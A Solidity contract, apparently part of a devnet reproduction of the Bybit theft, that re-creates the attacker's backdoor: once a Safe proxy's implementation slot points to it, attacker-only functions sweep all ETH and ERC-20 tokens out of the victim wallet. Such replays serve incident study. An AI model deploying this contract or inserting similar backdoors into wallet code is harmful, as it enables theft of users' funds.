// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.37;

interface IERC20Balance {
    function balanceOf(address account) external view returns (uint256);
    function transfer(address to, uint256 amount) external returns (bool);
}

/// @notice Behaves as the Bybit backdoor at 0xbDd077f651EBe7f7b3cE16fe5F2b025BE2969516: once a Safe
/// proxy's slot 0 points here, the proxy delegatecalls these functions, so `address(this)` is the
/// victim Safe. Only the attacker EOA may sweep. `attacker` is immutable, hence part of the runtime
/// code that the devnet copies to the backdoor's mainnet address.
contract SweepBackdoor {
    address private immutable attacker;

    constructor(address attacker_) {
        attacker = attacker_;
    }

    function sweepETH(address destination) external {
        require(msg.sender == attacker, "not attacker");
        (bool ok, ) = payable(destination).call{value: address(this).balance}("");
        require(ok, "eth transfer failed");
    }

    function sweepERC20(address token, address destination) external {
        require(msg.sender == attacker, "not attacker");
        uint256 amount = IERC20Balance(token).balanceOf(address(this));
        require(IERC20Balance(token).transfer(destination, amount), "token transfer failed");
    }
}
